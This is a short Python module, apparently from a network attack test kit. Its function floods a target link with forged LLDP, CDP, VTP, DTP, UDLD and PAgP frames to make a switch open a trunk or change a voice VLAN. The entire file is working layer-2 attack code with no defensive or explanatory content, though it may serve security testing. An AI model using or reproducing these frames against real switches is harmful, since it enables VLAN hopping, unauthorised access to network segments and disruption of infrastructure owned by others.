# SPDX-License-Identifier: Apache-2.0
"""Discovery protocols of switches (LLDP, CDP, VTP, DTP, UDLD) reconfigure a trunk or a voice VLAN."""
from kit import *

FAMILIES = (4,)


def attack(pot):
    lldp = b"\x02\x07\4" + pot.mac + b"\x04\3\7p1\x06\2\0\x78\0\0"
    for to in ("0180c200000e", "0180c2000003", "0180c2000000", "ffffffffffff"):
        pot.send(*[(bytes.fromhex(to) + pot.mac + b"\x88\xcc" + lldp).ljust(60, b"\0")] * 10)
    for kind in (0x2000, 0x2003, 0x2004, 0x0111, 0x0104):  # CDP, VTP, DTP, UDLD, PAgP
        body = b"\xaa\xaa\3\0\0\x0c" + struct.pack(">H", kind) + b"\2\xb4\0\0\0\1\0\5r"
        for to in ("01000ccccccc", "ffffffffffff"):
            pot.send(*[(bytes.fromhex(to) + pot.mac + struct.pack(">H", len(body)) + body).ljust(60, b"\0")] * 10)
